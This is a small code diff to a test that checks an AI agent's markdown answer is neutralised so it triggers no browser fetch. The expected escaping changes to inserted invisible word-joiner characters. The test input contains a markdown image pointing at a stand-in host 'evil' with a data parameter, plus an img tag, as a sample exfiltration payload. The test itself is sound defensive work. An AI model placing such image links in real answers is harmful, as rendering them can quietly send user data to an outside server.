@@ -221,5 +221,6 @@ async def test_the_models_markdown_makes_no_browser_fetch() -> None:
     agent = agent_with("See ![x](http://evil/?d=1) <img src=//evil> and `<b>` ok")
     await run(agent)
     assert (
-        agent.transcript.answer == "See !\\[x](http://evil/?d=1) &lt;img src=//evil> and `<b>` ok"
+        agent.transcript.answer
+        == "See !\u2060[x](http://evil/?d=1) <\u2060img src=//evil> and `<\u2060b>` ok"
     )
